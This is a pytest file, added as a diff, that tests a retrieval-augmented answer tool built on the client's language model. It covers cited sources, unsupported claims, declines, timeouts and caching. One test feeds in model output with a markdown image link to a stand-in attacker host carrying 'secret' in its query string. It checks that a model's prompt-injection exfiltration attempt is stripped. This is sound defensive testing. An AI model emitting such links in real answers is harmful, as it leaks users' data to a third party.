@@ -1,0 +1,119 @@
+"""rag_synthesize with the client's own model: whatever it does, the answer is there and says what came of it."""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from tests.doubles.client_model import (
+    ClientModel,
+    cut,
+    declines,
+    hangs,
+    raises,
+    says_nothing,
+    shows_a_picture,
+)
+from tests.server.desk import Desk, answer_in
+from tools.models import Models
+
+pytestmark = pytest.mark.anyio
+
+QUESTION = "How does the pump work? impeller"
+
+
+async def asked(desk: Desk, era: str, model: ClientModel, **changes: Any) -> dict[str, Any]:
+    async with desk.client(era, model) as client:
+        return answer_in(await client.call_tool("rag_synthesize", {"query": QUESTION, **changes}))
+
+
+async def test_the_clients_model_writes_from_numbered_sources(stocked: Desk, era: str) -> None:
+    model = ClientModel("It moves water [1].")
+    answer = await asked(stocked, era, model)
+    assert len(model.requests) == 1
+    assert f"Question: {QUESTION}" in model.prompts[0]
+    assert "[1] " in model.prompts[0]
+    assert "Not found in sources" in (model.requests[0].system_prompt or "")
+    assert answer["mode"] == "llm"
+    assert answer["model"] == "The client's model"
+    assert answer["answer"].startswith("It moves water [1].\n\n[1] (Source: ")
+    assert answer["prompt_version"]
+
+
+async def test_each_fault_of_its_answer_is_told(stocked: Desk, era: str) -> None:
+    model = ClientModel("It turns 99,999 times a minute [1]. It is [77]. It shines.")
+    answer = await asked(stocked, era, model)
+    assert answer["unsupported_claims"] == ["It turns 99,999 times a minute."]
+    assert answer["invalid_citations"] == ["77"]
+    assert answer["uncited_claims"] == ["It shines."]
+    assert answer["confidence"] == 0
+
+
+@pytest.mark.parametrize(("act", "why"), [(declines, "declined"), (raises, "declined")])
+async def test_a_client_that_declines_gets_a_composed_answer(stocked: Desk, act: Any, why: str) -> None:
+    answer = await asked(stocked, "legacy", ClientModel(act))
+    assert answer["mode"] == "compose"
+    assert any(
+        one.startswith("The client's model wrote no answer: it ") and why in one for one in answer["warnings"]
+    )
+
+
+@pytest.mark.parametrize("act", [says_nothing, shows_a_picture])
+async def test_a_model_without_a_text_leaves_a_composed_answer(stocked: Desk, era: str, act: Any) -> None:
+    answer = await asked(stocked, era, ClientModel(act))
+    assert answer["mode"] == "compose"
+    assert "impeller" in answer["answer"].lower()
+
+
+async def test_a_model_that_hangs_leaves_a_composed_answer(
+    stocked: Desk, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr("tools.sampling.LONGEST_WAIT", 0.2)
+    answer = await asked(stocked, "legacy", ClientModel(hangs))
+    assert answer["mode"] == "compose"
+    assert "The client's model wrote no answer: it did not answer in time." in answer["warnings"]
+
+
+async def test_an_answer_that_was_cut_says_so(stocked: Desk, era: str) -> None:
+    answer = await asked(stocked, era, ClientModel(cut("It moves water [1], and")))
+    assert any("larger max_tokens" in one for one in answer["warnings"])
+
+
+async def test_compose_asks_nobody(stocked: Desk, era: str) -> None:
+    model = ClientModel("no")
+    assert (await asked(stocked, era, model, mode="compose"))["mode"] == "compose"
+    assert model.requests == []
+
+
+async def test_sampling_that_is_off_asks_nobody(stocked: Desk, era: str) -> None:
+    model = ClientModel("no")
+    desk = Desk(stocked.index, stocked.library, models=Models(sampling=False))
+    assert (await asked(desk, era, model))["mode"] == "compose"
+    assert model.requests == []
+
+
+async def test_nothing_found_asks_nobody(stocked: Desk, era: str) -> None:
+    model = ClientModel("no")
+    answer = await asked(stocked, era, model, query="zzyzx")
+    assert answer["answer"] == "No relevant information found"
+    assert model.requests == []
+
+
+async def test_what_fails_in_the_search_is_told_once(stocked: Desk, era: str) -> None:
+    failure = await stocked.failure("rag_synthesize", era, query="x", filters={"author": "Nobody"})
+    assert failure["type"] == "InvalidRequest"
+
+
+async def test_an_instruction_that_the_model_followed_fetches_nothing(stocked: Desk, era: str) -> None:
+    model = ClientModel("See ![x](https://evil.example/?q=secret) and [this](https://evil.example) [1].")
+    answer = await asked(stocked, era, model)
+    assert "evil.example" not in answer["answer"]
+    assert any("taken out" in one for one in answer["warnings"])
+
+
+async def test_the_same_question_is_written_once(stocked: Desk, era: str) -> None:
+    model = ClientModel("It moves water [1].")
+    await asked(stocked, era, model)
+    again = await asked(stocked, era, model)
+    assert again["answer"].startswith("It moves water [1].")
